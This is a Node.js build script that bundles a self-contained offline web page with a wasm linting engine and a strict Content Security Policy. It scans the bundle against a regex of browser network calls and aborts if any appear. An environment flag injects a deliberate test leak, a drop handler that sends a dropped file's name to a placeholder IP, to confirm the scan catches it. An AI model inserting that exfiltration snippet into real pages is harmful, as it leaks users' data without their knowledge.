// Makes the page, one file that holds everything: node build.mjs ENGINE_FOLDER OUT_FILE
//
// The same sources give the same bytes, with the versions in package-lock.json and of Rust.

import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { build } from "esbuild";
import { compress } from "lzma1";

const here = dirname(fileURLToPath(import.meta.url));
const [engineFolder, out] = process.argv.slice(2);
// What the convention is that the page comes with.
const { convention } = JSON.parse(readFileSync(join(here, "page.json"), "utf8"));
// A build that leaks on purpose: the test of what leaves the page has to catch it.
const leaks = process.env.PAMLINT_PAGE_LEAKS === "1";

/** Names by which code could send something. None of them stands in the page. */
const SENDING =
  /\b(fetch|XMLHttpRequest|WebSocket|WebTransport|EventSource|sendBeacon|RTCPeerConnection|importScripts|serviceWorker|BroadcastChannel|open|submit|requestSubmit|assign)\s*\(|\b(XMLHttpRequest|WebSocket|WebTransport|EventSource|RTCPeerConnection|RTCDataChannel|serviceWorker)\b|\blocation\s*(\.href)?\s*=[^=]|\bimport\s*\(|https?:\/\/(?!www\.w3\.org\/)/g;

async function bundle(entry, more = {}) {
  const { plugins = [], ...options } = more;
  const result = await build({
    entryPoints: [join(here, entry)],
    absWorkingDir: here,
    bundle: true,
    write: false,
    minify: true,
    charset: "utf8",
    format: "iife",
    target: ["chrome109", "firefox115", "safari16.4"],
    legalComments: "none",
    jsx: "automatic",
    jsxImportSource: "preact",
    plugins,
    ...options,
  });
  return result.outputFiles[0].text;
}

const provide = (name, resolve) => ({
  name,
  setup(build) {
    build.onResolve({ filter: new RegExp(`^${name}$`) }, () => resolve);
  },
});

const worker = await bundle("src/worker.ts", {
  plugins: [provide("engine", { path: join(engineFolder, "pamlint_web.js") })],
  // The glue asks for its own address to load the engine from there, which the page never lets it.
  define: { "import.meta.url": '""' },
});
const script = await bundle("src/main.tsx", {
  define: { CONVENTION: JSON.stringify(convention) },
  plugins: [
    {
      name: "worker-source",
      setup(build) {
        build.onResolve({ filter: /^worker-source$/ }, () => ({ path: "worker", namespace: "made" }));
        build.onLoad({ filter: /.*/, namespace: "made" }, () => ({ contents: worker, loader: "text" }));
      },
    },
  ],
});
const style = await bundle("style.css");

for (const [name, text] of [["script", script], ["worker", worker]]) {
  const found = [...text.matchAll(SENDING)].map(({ index }) => text.slice(Math.max(0, index - 60), index + 60));
  if (found.length > 0 && !leaks) {
    console.error(`the ${name} holds code that could send something:\n${found.join("\n")}`);
    process.exit(1);
  }
}

const wasm = readFileSync(join(engineFolder, "pamlint_web_bg.wasm"));
// LZMA, since a browser unpacks nothing by itself that packs as well: a third is saved.
const engine = Buffer.from(compress(wasm, 9)).toString("base64");

const leak = leaks
  ? `addEventListener("drop",e=>{location.href="http://203.0.113.9/?"+e.dataTransfer.files[0].name});`
  : "";
const whole = (script + leak).replaceAll("</script", "<\\/script");
const hash = (text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const texts = ["nl", "en", "fr"].map((tag) => JSON.parse(readFileSync(join(here, `texts/${tag}.json`), "utf8")).noScript);
const policy = [
  "default-src 'none'",
  `script-src ${hash(whole)} 'wasm-unsafe-eval'`,
  "worker-src blob:",
  `style-src ${hash(style)}`,
  "img-src data:",
  "base-uri 'none'",
  "form-action 'none'",
].join("; ");
const parts = { policy, style, script: whole, engine, noscript: texts.join(" ") };
const page = readFileSync(join(here, "index.html"), "utf8").replace(/\{\{(\w+)\}\}/g, (_, name) => parts[name]);

writeFileSync(out, page);
const sum = createHash("sha256").update(page).digest("hex");
writeFileSync(`${out}.sha256`, `${sum}  ${basename(out)}\n`);
console.log(`${out}: ${page.length} bytes, ${gzipSync(page, { level: 9 }).length} as sent; SHA-256 ${sum}`);
